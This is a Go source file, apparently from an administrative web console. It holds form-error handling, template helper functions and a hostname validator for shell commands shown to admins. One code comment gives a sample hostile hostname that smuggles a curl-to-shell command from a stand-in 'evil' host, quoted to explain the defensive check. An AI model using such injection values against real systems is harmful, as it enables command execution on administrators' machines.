package console

import (
	"errors"
	"fmt"
	"html/template"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"time"
)

// form is what the user typed and what was wrong with it: a form that
// fails is shown again with the user's input and each error beside its
// field (or at the top when the error names no field).
type form struct {
	Values url.Values
	Errors map[string]string
	Top    string
	code   int // the API's status for the failure, when it came from the API
}

func newForm(v url.Values) *form {
	if v == nil {
		v = url.Values{}
	}
	return &form{Values: v, Errors: map[string]string{}}
}

// Get is the typed value of a field.
func (f *form) Get(name string) string { return f.Values.Get(name) }

// Err is the error shown beside a field.
func (f *form) Err(name string) string { return f.Errors[name] }

// Checked says whether a checkbox is ticked.
func (f *form) Checked(name string) bool { return f.Values.Get(name) != "" }

// Failed says whether anything is wrong.
func (f *form) Failed() bool { return len(f.Errors) > 0 || f.Top != "" }

// rule maps an API error message to the form field it concerns: the first
// rule whose text occurs in the message wins.
type rule struct{ text, field string }

// fail files err under its field. It returns err back when err is not the
// user's to fix (the API failed, or the session ended), for the page
// handler to answer.
func (f *form) fail(err error, rules []rule) error {
	var ae *apiError
	if !errors.As(err, &ae) || ae.Status >= 500 || ae.Status == http.StatusUnauthorized {
		return err
	}
	f.code = ae.Status
	low := strings.ToLower(ae.Msg)
	for _, r := range rules {
		if strings.Contains(low, r.text) {
			f.Errors[r.field] = ae.Msg
			return nil
		}
	}
	f.Top = ae.Msg
	return nil
}

// status is the HTTP status of a form shown again with errors.
func (f *form) status() int {
	if f.Failed() {
		if f.code != 0 {
			return f.code
		}
		return http.StatusUnprocessableEntity
	}
	return http.StatusOK
}

// list splits a textarea or comma-separated field into its entries.
func list(s string) []string {
	out := []string{}
	for _, p := range strings.FieldsFunc(s, func(r rune) bool { return r == '\n' || r == ',' || r == '\r' }) {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

var funcs = template.FuncMap{
	"when": func(t time.Time) string {
		if t.IsZero() {
			return "—"
		}
		return t.UTC().Format("2006-01-02 15:04:05 UTC")
	},
	"ago": func(t time.Time) string {
		if t.IsZero() {
			return "never"
		}
		d := time.Since(t).Round(time.Second)
		switch {
		case d < time.Minute:
			return fmt.Sprintf("%ds ago", int(d.Seconds()))
		case d < time.Hour:
			return fmt.Sprintf("%dm ago", int(d.Minutes()))
		case d < 48*time.Hour:
			return fmt.Sprintf("%dh ago", int(d.Hours()))
		}
		return fmt.Sprintf("%dd ago", int(d.Hours()/24))
	},
	"join":  strings.Join,
	"lines": func(xs []string) string { return strings.Join(xs, "\n") },
	"short": func(s string) string {
		if len(s) > 12 {
			return s[:12]
		}
		return s
	},
	"size": func(n int64) string {
		switch {
		case n >= 1<<30:
			return fmt.Sprintf("%.1f GiB", float64(n)/(1<<30))
		case n >= 1<<20:
			return fmt.Sprintf("%.1f MiB", float64(n)/(1<<20))
		case n >= 1<<10:
			return fmt.Sprintf("%.1f KiB", float64(n)/(1<<10))
		}
		return fmt.Sprintf("%d B", n)
	},
	"pct": func(a, b int) string {
		if b == 0 {
			return "—"
		}
		return fmt.Sprintf("%d%%", a*100/b)
	},
	"roleName": func(r string) string {
		if r == "" {
			return "technician"
		}
		return r
	},
	"has": func(xs []string, x string) bool {
		for _, y := range xs {
			if y == x {
				return true
			}
		}
		return false
	},
	"grantText":  grantText,
	"labels":     labelList,
	"labelKey":   func(l string) string { k, _, _ := strings.Cut(l, "="); return k },
	"policyHref": policyHref,
	"list":       list,
	"hostArg":    hostArg,
}

// plainHostname is a hostname that means the same to a shell as written:
// no quotes, $, ;, |, & or anything else a shell acts on, and no leading
// dash that a command would read as a flag.
var plainHostname = regexp.MustCompile(`^[A-Za-z0-9][A-Za-z0-9._-]*$`)

// hostArg names a host in a command the page suggests to copy into a
// terminal: its hostname when that is plain, else its member id. A
// hostname is the host's own say (any printable ASCII but space), so one
// such as "x;curl${IFS}evil|sh" must not reach an admin's shell; the id
// is the coordinator's, and outpost takes either.
func hostArg(hostname, id string) string {
	if plainHostname.MatchString(hostname) {
		return hostname
	}
	return id
}
